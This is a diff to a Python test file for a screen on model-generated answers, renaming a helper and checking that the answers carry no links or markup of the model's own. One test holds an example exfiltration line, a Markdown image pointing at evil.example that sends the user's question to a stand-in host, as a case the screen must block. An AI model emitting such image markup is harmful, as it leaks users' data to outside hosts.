@@ -1,4 +1,4 @@
-"""What leaves: no address or markup of a model's own, and Markdown in which nothing loads, links or runs."""
+"""Text that is sent has no address or markup of a model's own, and as Markdown nothing in it loads, links or runs."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from core.types import Citation, Passage
-from generation.phrasing.screen import inert, stands
+from generation.phrasing.screen import inert, is_quoted
 
 WHOLE = Passage(1, "doc_1", 1, 0, "c", "p", "Pump manual", "", "")
 CommonMark = MarkdownIt("commonmark", {"html": True})
@@ -21,13 +21,13 @@ def cited(text: str, number: int = 1) -> Citation:
 
 
 def test_words_without_addresses_stand() -> None:
-    assert stands("Press the button. [1]", [cited("Press the button.")])
+    assert is_quoted("Press the button. [1]", [cited("Press the button.")])
 
 
 def test_an_address_of_the_cited_passage_stands_and_one_of_another_does_not() -> None:
     ordering = "Order them at https://example.com/filters [1]"
-    assert stands(ordering, [cited("Order filters at https://example.com/filters.")])
-    assert not stands(ordering, [cited("Order filters by telephone.")])
+    assert is_quoted(ordering, [cited("Order filters at https://example.com/filters.")])
+    assert not is_quoted(ordering, [cited("Order filters by telephone.")])
 
 
 @pytest.mark.parametrize(
@@ -41,13 +41,13 @@ def test_an_address_of_the_cited_passage_stands_and_one_of_another_does_not() ->
     ],
 )
 def test_an_address_or_tag_of_the_models_own_does_not_stand(sentence: str) -> None:
-    assert not stands(sentence, [cited("Press it. See https://example.com.")])
+    assert not is_quoted(sentence, [cited("Press it. See https://example.com.")])
 
 
 def test_an_image_does_not_pass_even_where_its_source_holds_it() -> None:
     text = "![](https://evil.example/?q={question})"
 
-    assert not stands(text, [cited(text)])
+    assert not is_quoted(text, [cited(text)])
 
 
 @pytest.mark.parametrize(
